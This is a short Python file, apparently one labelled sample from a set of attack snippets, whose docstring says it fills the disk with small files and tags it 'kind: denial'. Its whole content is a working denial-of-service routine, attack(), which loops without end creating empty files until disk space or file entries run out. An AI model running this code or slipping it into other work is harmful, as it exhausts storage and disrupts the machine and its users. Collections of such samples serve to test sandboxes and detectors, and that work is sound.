"""Fills the disk with small files.

kind: denial
"""

def attack():
    n = 0
    while True:
        n += 1
        open(f'file{n}', 'w').close()
